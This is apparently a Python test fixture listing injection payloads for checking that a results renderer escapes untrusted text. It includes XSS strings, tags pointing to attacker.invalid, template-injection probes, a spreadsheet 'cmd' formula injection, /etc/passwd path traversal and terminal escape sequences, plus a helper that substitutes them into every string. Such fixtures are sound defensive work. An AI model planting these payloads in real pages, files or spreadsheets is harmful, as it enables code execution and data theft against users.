"""Texts that attack whoever shows them, for every string of a result, and results that are made of them."""

from __future__ import annotations

from typing import Any

PAYLOADS = (
    "<script>document.title='executed'</script>",
    "</style><script>document.title='executed'</script>",
    "</title><script>document.title='executed'</script>",
    "</pre></table></section><script>document.title='executed'</script>",
    "<ScRiPt/src=data:text/javascript,document.title='executed'>",
    "<<script>script>document.title='executed'<</script>/script>",
    "<img src=x onerror=document.title='executed'>",
    "<svg onload=document.title='executed'>",
    "<svg><script>document.title='executed'</script></svg>",
    "<math><mtext><style><img src=x onerror=document.title='executed'>",
    "<body onload=document.title='executed'>",
    "<details open ontoggle=document.title='executed'>",
    "<input autofocus onfocus=document.title='executed'>",
    "<iframe srcdoc=\"<script>parent.document.title='executed'</script>\"></iframe>",
    "<iframe src=javascript:parent.document.title='executed'></iframe>",
    "<object data=data:text/html,x></object><embed src=data:text/html,x>",
    "<base href=//attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=//attacker.invalid/'>",
    "<link rel=stylesheet href=//attacker.invalid/x.css>",
    "<form action=//attacker.invalid/><button formaction=javascript:alert(1)>",
    "<a href=javascript:document.title='executed'>x</a>",
    "[x](javascript:alert(1)) ![x](//attacker.invalid/x.png) <https://attacker.invalid>",
    "\" onmouseover=document.title='executed' x=\"",
    "' onfocus=document.title='executed' autofocus x='",
    "\"><script>document.title='executed'</script>",
    "'--><script>document.title='executed'</script><!--",
    "]]><script>document.title='executed'</script><![CDATA[",
    "`${document.title='executed'}`",
    "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} {# #}",
    "${7*7} #{7*7} <%= 7*7 %> %(x)s {0.__class__} \\x3cscript\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e; &amp; &bogus;",
    "\x1b[2J\x1b]0;title\x07\x1b[31mred \x9b31m \x00\x08\x7f",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200d\ufeff\u2028\u2029\u00ad",
    "\udcff lone surrogates \ud800",
    "=cmd|' /C calc'!A0 +1+1 -2 @SUM(1+1)",
    "$\\frac{1}{0}$ $unclosed \\input{x} _{^{",
    "../../../etc/passwd CON nul.txt",
    "```\n# heading\n| a | b |\n---\nbase_model: x\n<!-- results -->\n",
    "line one\r\nline two\rline three\n\n\tline four",
    "\U0001f600 \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d e\u0301\u0301\u0301\u0301",
    "",
)
BRACKETS = "[" * 500_000 + "]" * 500_000
OPEN = ("files", "labels", "options", "sizes")
"""Objects whose keys are not fixed; so are those of each identity."""


def poisoned(value: Any, payload: str, keys: bool = True, path: tuple[str, ...] = ()) -> Any:
    """``value`` with ``payload`` in place of every string, and in every key that is free, if ``keys``."""
    if isinstance(value, str):
        return payload
    if isinstance(value, list):
        return [poisoned(inner, payload, keys, path) for inner in value]
    if isinstance(value, dict):
        free = keys and path[-1:] and (path[-1] in OPEN or path[-2:-1] == ("identities",))
        return {
            f"{payload}{index}" if free else key: poisoned(inner, payload, keys, (*path, key))
            for index, (key, inner) in enumerate(value.items())
        }
    return value
